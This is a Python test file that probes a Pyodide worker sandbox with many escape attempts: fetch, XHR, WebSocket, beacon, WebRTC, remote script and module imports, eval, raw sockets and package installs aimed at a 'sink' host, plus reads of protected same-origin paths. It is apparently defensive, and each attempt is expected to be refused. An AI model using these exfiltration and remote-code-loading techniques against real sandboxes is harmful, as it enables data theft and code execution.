"""Attacks that reach for the network, another origin, or forbidden parts of this origin."""

from __future__ import annotations

from typing import Any

from escape import each_refused, inner, started


def _module(text: str) -> str:
    from urllib.parse import quote

    return "data:text/javascript," + quote(text)


def fetches(trial: Any) -> float:
    """Fetch from a foreign machine and from the researchers' origin, in every mode."""
    import js
    from pyodide.ffi import to_js

    def get(url: str, **options: Any) -> Any:
        made = to_js(options, dict_converter=js.Object.fromEntries)
        return started(js.fetch(url, made))

    sink, console = trial.params["sink"], trial.params["console"]
    return each_refused(
        {
            "plain": lambda: get(f"{sink}/fetch"),
            "no-cors": lambda: get(f"{sink}/no-cors", mode="no-cors", method="POST", body="secret"),
            "keepalive": lambda: get(f"{sink}/keepalive", keepalive=True, mode="no-cors"),
            "request": lambda: started(js.fetch(js.Request.new(f"{sink}/request"))),
            "console": lambda: get(f"{console}/api/studies", credentials="include"),
            "self": lambda: started(js.self.fetch(sink)),
            "inherited": lambda: started(js.WorkerGlobalScope.prototype.fetch.call(js.self, sink)),
        }
    )


def xml_http_request(trial: Any) -> float:
    """Send a synchronous and an asynchronous XMLHttpRequest."""
    import js

    def send(is_async: bool) -> Any:
        request = js.XMLHttpRequest.new()
        request.open("POST", f"{trial.params['sink']}/xhr", is_async)
        request.send("secret")
        return request.responseText

    return each_refused({"sync": lambda: send(False), "async": lambda: send(True)})


def web_socket(trial: Any) -> float:
    """Open WebSockets, plain and as a stream, to a foreign machine and to the server itself."""
    import js

    stranger = trial.params["sink"].replace("http", "ws")
    own = trial.params["compute"].replace("http", "ws") + "/ws/worker"
    return each_refused(
        {
            "stranger": lambda: started(js.WebSocket.new(stranger)),
            "own server": lambda: js.WebSocket.new(own),
            "stream": lambda: started(js.WebSocketStream.new(stranger)),
        }
    )


def event_source(trial: Any) -> float:
    """Listen to a foreign machine's events, and send data in the address."""
    import js

    return each_refused({"events": lambda: js.EventSource.new(f"{trial.params['sink']}/?secret")})


def beacon(trial: Any) -> float:
    """Send a beacon, and subscribe to pushes."""
    import js

    sink = trial.params["sink"]
    return each_refused(
        {
            "beacon": lambda: js.navigator.sendBeacon(f"{sink}/beacon", "secret"),
            "push": lambda: js.navigator.serviceWorker.ready,
            "background fetch": lambda: js.BackgroundFetchManager,
            "notification": lambda: js.Notification.new("secret"),
        }
    )


def web_rtc(trial: Any) -> float:
    """Open a peer connection, which would send datagrams."""
    import js
    from pyodide.ffi import to_js

    def connect() -> Any:
        address = "stun:" + trial.params["sink"].removeprefix("http://")
        servers = [{"urls": address}]
        options = to_js({"iceServers": servers}, dict_converter=js.Object.fromEntries)
        peer = js.RTCPeerConnection.new(options)
        peer.createDataChannel("out")
        return peer

    return each_refused(
        {"peer": connect, "channel": lambda: js.RTCDataChannel, "rtc": lambda: js.RTCTransformEvent}
    )


def web_transport(trial: Any) -> float:
    """Open an HTTP/3 session."""
    import js

    address = trial.params["sink"].replace("http", "https")
    return each_refused({"session": lambda: js.WebTransport.new(address)})


def import_scripts(trial: Any) -> float:
    """Load a classic script into the worker."""
    import js

    address = f"{trial.params['sink']}/script.js"
    return each_refused(
        {
            "global": lambda: js.importScripts(address),
            "inherited": lambda: js.WorkerGlobalScope.prototype.importScripts.call(
                js.self, address
            ),
        }
    )


def dynamic_import(trial: Any) -> float:
    """Import modules from a foreign machine, a data URL and a blob, by every importing function."""
    import js
    from pyodide.code import run_js
    from pyodide.ffi import to_js

    mark = "globalThis.hostile_import = 1"
    blob = js.Blob.new(
        to_js([mark]),
        to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries),
    )
    addresses = {
        "http": f"{trial.params['sink']}/module.js",
        "data": _module(mark),
        "blob": js.URL.createObjectURL(blob),
    }
    ways: dict[str, Any] = {}
    for kind, address in addresses.items():
        ways[f"{kind} by text"] = lambda a=address: run_js(f"import('{a}')")
        for holder in ("_api", "_module"):
            ways[f"{kind} by {holder}"] = lambda a=address, h=holder: started(
                getattr(inner("pyodide_js"), h).loadScript(a)
            )
        ways[f"{kind} as a package"] = lambda a=address: started(inner("pyodide_js").loadPackage(a))
    ways["mark"] = lambda: js.hostile_import
    return each_refused(ways)


def javascript_text(trial: Any) -> float:
    """Run JavaScript from text, in every way that turns a string into code."""
    import js
    from pyodide.code import run_js

    code = "1 + 1"
    return each_refused(
        {
            "run_js": lambda: run_js(code),
            "eval": lambda: js.eval(code),
            "Function": lambda: js.Function.new(f"return {code}")(),
            "constructor": lambda: js.Object.constructor(f"return {code}")(),
            "async": lambda: js.Promise.resolve.constructor(f"return {code}")(),
            "timer": lambda: started(js.setTimeout("globalThis.hostile_text = 1")),
            "mark": lambda: js.hostile_text,
        }
    )


def images_and_fonts(trial: Any) -> float:
    """Use drawing interfaces that may load data: fonts, images, canvases, decoders, the GPU."""
    import js

    sink = trial.params["sink"]
    return each_refused(
        {
            "font": lambda: js.FontFace.new("f", f"url({sink}/font)").load(),
            "bitmap": lambda: js.createImageBitmap(js.Blob.new()),
            "canvas": lambda: js.OffscreenCanvas.new(1, 1),
            "decoder": lambda: js.ImageDecoder,
            "gpu": lambda: js.navigator.gpu,
        }
    )


def python_sockets(trial: Any) -> float:
    """Use Python's own network modules, which Emscripten sends over WebSockets."""
    import http.client
    import socket
    import urllib.request

    from pyodide.http import open_url

    address = trial.params["sink"]
    host, port = address.removeprefix("http://").split(":")

    def talk() -> bytes:
        with socket.create_connection((host, int(port)), timeout=1) as connection:
            connection.sendall(b"secret")
            return connection.recv(1)

    def ask() -> Any:
        connection = http.client.HTTPConnection(host, int(port), timeout=1)
        connection.request("GET", "/http-client")
        return connection.getresponse()

    return each_refused(
        {
            "socket": talk,
            "http.client": ask,
            "urllib": lambda: urllib.request.urlopen(address, timeout=1),
            "open_url": lambda: open_url(address),
        }
    )


def packages(trial: Any) -> float:
    """Make Pyodide and pip fetch a package from a foreign machine."""
    import js
    from pyodide.ffi import to_js
    from pyodide.http import pyfetch

    wheel = f"{trial.params['sink']}/stranger-1.0-py3-none-any.whl"
    options = to_js({"indexURL": trial.params["sink"]}, dict_converter=js.Object.fromEntries)

    def fetch() -> Any:
        coroutine = pyfetch(wheel)
        return coroutine.send(None)

    def install() -> Any:
        return inner("micropip").install(wheel)

    return each_refused(
        {
            "loadPackage": lambda: started(inner("pyodide_js").loadPackage(wheel)),
            "loadPyodide": lambda: started(inner("pyodide_js").loadPyodide(options)),
            "pyfetch": lambda: started(fetch()),
            "micropip": install,
            "dynamic library": lambda: started(inner("pyodide_js")._api.loadDynlib(wheel)),
        }
    )


def own_origin(trial: Any) -> float:
    """Read the join page, the server's answers and other trials' files from this origin."""
    import js
    from pyodide.http import open_url

    base = trial.params["compute"]

    def read(path: str) -> Any:
        request = js.XMLHttpRequest.new()
        request.open("GET", base + path, False)
        request.send(None)
        return request.responseText

    ways: dict[str, Any] = {}
    for path in ("/join", "/healthz", "/api/project", "/api/blobs/" + "0" * 64):
        ways[f"xhr {path}"] = lambda p=path: read(p)
        ways[f"open_url {path}"] = lambda p=path: open_url(base + p).read()
        ways[f"fetch {path}"] = lambda p=path: started(js.fetch(base + p))
    return each_refused(ways)


def messages(trial: Any) -> float:
    """Send messages to other threads and pages without the agent."""
    import js

    def broadcast() -> Any:
        channel = js.BroadcastChannel.new("hostile")
        channel.postMessage("secret")
        return channel

    return each_refused(
        {
            "broadcast": broadcast,
            "post": lambda: started(js.self.postMessage("hostile")),
            "inherited": lambda: started(
                js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, "hostile")
            ),
            "locks": lambda: js.navigator.locks.query(),
            "parent": lambda: js.self.parent or js.self.opener or js.self.top,
            "clients": lambda: js.self.clients,
        }
    )
